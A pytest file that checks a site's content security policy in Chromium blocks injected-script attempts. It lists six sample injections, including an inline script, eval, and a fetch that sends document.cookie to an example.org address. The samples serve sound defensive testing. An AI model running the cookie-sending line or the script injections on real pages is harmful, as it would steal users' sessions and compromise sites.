"""The content security policy in a real Chromium: it stops what an injected script would do.

test_pages.py uses every page under it, test_counted.py takes files along: none breaks it.
"""

import pytest

from tests.browser.conftest import painted

ELEMENT = "document.body.append(Object.assign(document.createElement('{}'), {}))"
ATTEMPTS = {
    "inline script": ELEMENT.format("script", "{textContent: 'window.ran = 1'}"),
    "foreign script": ELEMENT.format("script", "{src: 'https://example.org/x.js'}"),
    "eval": "setTimeout('window.ran = 1')",
    "sending data away": "fetch('https://example.org/?' + document.cookie).catch(() => 0)",
    "foreign image": ELEMENT.format("img", "{src: 'https://example.org/x.png'}"),
    "foreign frame": ELEMENT.format("iframe", "{src: 'https://example.org/'}"),
}


def test_the_policy_stops_what_an_injected_script_would_do(visit, address):
    page, messages = visit(f"{address}/method?lang=en", alone=True, bypass_csp=False), []
    page.on("console", lambda line: messages.append(line.text))
    for name, attempt in ATTEMPTS.items():
        messages.clear()
        page.evaluate(f"() => {{ {attempt} }}")
        for _ in range(100):
            if any("Content Security Policy" in text for text in messages):
                break
            painted(page)
        else:
            pytest.fail(name)
        assert not page.evaluate("window.ran"), name
